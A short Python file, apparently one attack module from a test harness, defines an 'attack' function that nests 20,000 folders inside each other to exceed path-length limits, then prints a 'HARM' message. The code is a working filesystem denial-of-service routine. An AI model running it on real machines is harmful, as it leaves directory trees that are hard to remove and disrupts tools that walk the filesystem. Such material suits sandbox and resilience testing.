"""Makes folders one in another, deeper than a path can be long (here: 20,000)."""

import os
import time


def attack(target: dict[str, str]) -> None:
    for _ in range(20_000):
        os.mkdir("deeper")
        os.chdir("deeper")
    time.sleep(1)
    print("HARM: nested 20000 folders")
